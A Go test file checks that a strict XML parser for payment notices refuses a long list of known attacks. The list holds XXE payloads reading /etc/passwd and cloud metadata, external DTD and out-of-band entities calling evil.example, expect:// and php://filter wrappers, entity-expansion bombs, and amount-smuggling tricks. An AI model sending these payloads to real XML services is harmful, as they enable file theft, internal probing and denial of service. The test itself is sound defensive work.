package strict

import (
	"runtime"
	"strings"
	"testing"
)

// attacks are the known ways to attack a reader of XML: every class of the public lists (OWASP, "XML External Entity
// Prevention"; payloadbox and PayloadsAllTheThings, "XXE Injection"; the platform's own XXE guide), around an amount.
func attacks() map[string]string {
	laughs := `<!DOCTYPE xml [<!ENTITY a0 "ha">`
	for i := 1; i < 10; i++ {
		n := string(rune('0' + i))
		laughs += `<!ENTITY a` + n + ` "` + strings.Repeat(`&a`+string(rune('0'+i-1))+`;`, 10) + `">`
	}
	field := func(inner string) string { return `<xml><total_fee>` + inner + `</total_fee></xml>` }
	return map[string]string{
		"A45 a file":                             `<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + field(`&x;`),
		"A45 a file, the reader's own root":      `<?xml version="1.0"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///dev/random">]><foo>&xxe;</foo>`,
		"A45 an address inside":                  `<!DOCTYPE xml [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>` + field(`&x;`),
		"A45 a public identifier":                `<!DOCTYPE xml [<!ENTITY x PUBLIC "any" "http://evil.example/x">]>` + field(`&x;`),
		"A45 an external DTD":                    `<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd">` + field(`1`),
		"A45 a parameter entity":                 `<!DOCTYPE xml [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>` + field(`1`),
		"A45 out of band":                        `<!DOCTYPE xml [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "http://evil.example/d.dtd">%d;%send;]>` + field(`1`),
		"A45 a local DTD":                        `<!DOCTYPE xml [<!ENTITY % l SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"><!ENTITY % expr 'a)'>%l;]>` + field(`1`),
		"A45 XInclude":                           `<xml xmlns:xi="http://www.w3.org/2001/XInclude"><total_fee><xi:include parse="text" href="file:///etc/passwd"/></total_fee></xml>`,
		"A45 a stylesheet":                       `<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>` + field(`1`),
		"A45 a schema's place":                   `<xml xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://evil.example/x"><total_fee>1</total_fee></xml>`,
		"A45 an expect wrapper":                  `<!DOCTYPE xml [<!ENTITY x SYSTEM "expect://id">]>` + field(`&x;`),
		"A45 a base64 filter":                    `<!DOCTYPE xml [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]>` + field(`&x;`),
		"A45 a jar":                              `<!DOCTYPE xml [<!ENTITY x SYSTEM "jar:http://evil.example/x.zip!/y">]>` + field(`&x;`),
		"A46 billion laughs":                     laughs + `]>` + field(`&a9;`),
		"A46 quadratic blow-up":                  `<!DOCTYPE xml [<!ENTITY a "` + strings.Repeat("a", 30_000) + `">]>` + field(strings.Repeat("&a;", 8_000)),
		"A46 an entity that holds itself":        `<!DOCTYPE xml [<!ENTITY a "&b;"><!ENTITY b "&a;">]>` + field(`&a;`),
		"A46 a conditional section":              `<!DOCTYPE xml [<![INCLUDE[<!ENTITY a "1">]]>]>` + field(`&a;`),
		"A46 depth":                              strings.Repeat("<xml>", 13_000) + strings.Repeat("</xml>", 100),
		"A46 a long name":                        `<xml><` + strings.Repeat("a", 60_000) + `>1`,
		"A46 many attributes":                    `<xml ` + strings.Repeat(`a="1" `, 10_000) + `></xml>`,
		"A46 many comments":                      `<xml>` + strings.Repeat("<!---->", 9_000) + `</xml>`,
		"A47 a DOCTYPE that nobody uses":         `<!DOCTYPE xml>` + field(`1`),
		"A47 a DOCTYPE in lower case":            `<!doctype xml>` + field(`1`),
		"A47 a DOCTYPE inside":                   `<xml><!DOCTYPE xml><total_fee>1</total_fee></xml>`,
		"A48 two amounts":                        `<xml><total_fee>1</total_fee><total_fee>100</total_fee></xml>`,
		"A48 two amounts, one empty":             `<xml><total_fee/><total_fee>100</total_fee></xml>`,
		"A49 a comment inside of an amount":      field(`1<!-- -->00`),
		"A49 an element inside of an amount":     field(`1<b>00</b>`),
		"A49 an instruction inside of an amount": field(`1<?x?>00`),
		"A49 CDATA beside text":                  field(`1<![CDATA[00]]>`),
		"A49 CDATA split in two":                 field(`<![CDATA[1]]><![CDATA[00]]>`),
		"A49 CDATA within CDATA":                 field(`<![CDATA[<![CDATA[1]]>]]>`),
		"A49 CDATA in small letters":             field(`<![cdata[1]]>`),
		"A49 CDATA closed late":                  field(`<![CDATA[1]] >`),
		"A49 another namespace":                  `<xml xmlns:a="urn:a"><a:total_fee>1</a:total_fee><total_fee>2</total_fee></xml>`,
		"A49 a namespace of the root":            `<a:xml xmlns:a="urn:a"><total_fee>1</total_fee></a:xml>`,
		"A49 a nested message":                   `<xml><xml><total_fee>1</total_fee></xml></xml>`,
		"A49 a second message":                   field(`1`) + field(`100`),
		"A49 an attribute as the value":          `<xml><total_fee value="1"/></xml>`,
		"A49 a language":                         `<xml xml:lang="zh"><total_fee>1</total_fee></xml>`,
		"A49 a base":                             `<xml xml:base="http://evil.example/"><total_fee>1</total_fee></xml>`,
		"A50 UTF-7":                              `<?xml version="1.0" encoding="UTF-7"?>+ADw-xml+AD4-+ADw-/xml+AD4-`,
		"A50 UTF-16, big end first":              "\xfe\xff\x00<\x00x\x00m\x00l\x00>",
		"A50 UTF-32":                             "\x00\x00\xfe\xff\x00\x00\x00<",
		"A50 EBCDIC":                             "\x4c\x6f\xa7\x94\x93",
		"A50 GB18030 named":                      `<?xml version="1.0" encoding="GB18030"?>` + field(`1`),
		"A50 version 1.1":                        `<?xml version="1.1"?>` + field(`1&#x1;`),
		"A50 a control character as an entity":   field(`1&#8;00`),
		"A50 a zero-width mark before the root":  "\u200b" + field(`1`),
		"a declaration behind the root":          field(`1`) + `<?xml version="1.0"?>`,
		"HTML":                                   `<!DOCTYPE html><html><body>1</body></html>`,
		"a SOAP envelope":                        `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><xml/></soap:Body></soap:Envelope>`,
		"an SVG":                                 `<svg xmlns="http://www.w3.org/2000/svg"><image href="expect://ls"/></svg>`,
		"a form in place of XML":                 `return_code=SUCCESS&total_fee=1`,
		"nothing but spaces":                     " \t\n",
		"an end tag alone":                       `</xml>`,
		"a lone less-than sign in an amount":     field(`1 < 2`),
		"an end of a section outside":            field(`1]]>`),
		"an unknown HTML entity":                 field(`1&nbsp;`),
		"an entity in a name":                    `<xml><a&amp;b>1</a&amp;b></xml>`,
		"an amount after the root, in a comment": field(`1`) + `<!-- <total_fee>100</total_fee> -->`,
		"an unclosed comment":                    `<xml><!-- <total_fee>1</total_fee></xml>`,
		"a tag cut by the end of the text":       `<xml><total_fee>1</total_fee></xml`,
		"a NUL behind the root":                  field(`1`) + "\x00",
		"a carriage return that readers replace": field("1\r"),
		"a name that differs in its end tag":     `<xml><total_fee>1</Total_fee></xml>`,
		"more elements than any message has":     `<xml>` + elements(65) + `</xml>`,
	}
}

func elements(n int) string {
	var b strings.Builder
	for i := range n {
		name := "e" + string(rune('a'+i/26)) + string(rune('a'+i%26))
		b.WriteString("<" + name + ">1</" + name + ">")
	}
	return b.String()
}

func TestA45KnownAttacksOnXML(t *testing.T) {
	t.Parallel()
	for name, text := range attacks() {
		for _, root := range []string{"xml", "root"} { // of notices, and of what is sealed in them
			if got, err := ParseXML([]byte(strings.ReplaceAll(text, "xml>", root+">")), root); err == nil {
				t.Errorf("%s: read as %v", name, got)
			}
		}
	}
	for _, text := range []string{`<xml><total_fee>1</total_fee></xml>`, `<xml><total_fee><![CDATA[1]]></total_fee></xml>`, `<xml>` + elements(64) + `</xml>`} {
		if _, err := ParseXML([]byte(text), "xml"); err != nil {
			t.Errorf("%.60s: %v: the list proves nothing", text, err)
		}
	}
}

// An attack costs no more memory than a few times its own length (A46).
func TestA46AttacksCostNothing(t *testing.T) { // alone: what others allocate would be counted too
	for name, text := range attacks() {
		raw := []byte(text)
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		_, _ = ParseXML(raw, "xml") // refused, as the test above says
		runtime.ReadMemStats(&after)
		if cost, most := after.TotalAlloc-before.TotalAlloc, uint64(4*len(raw)+16<<10); cost > most {
			t.Errorf("%s: %d bytes for %d", name, cost, len(raw))
		}
	}
}
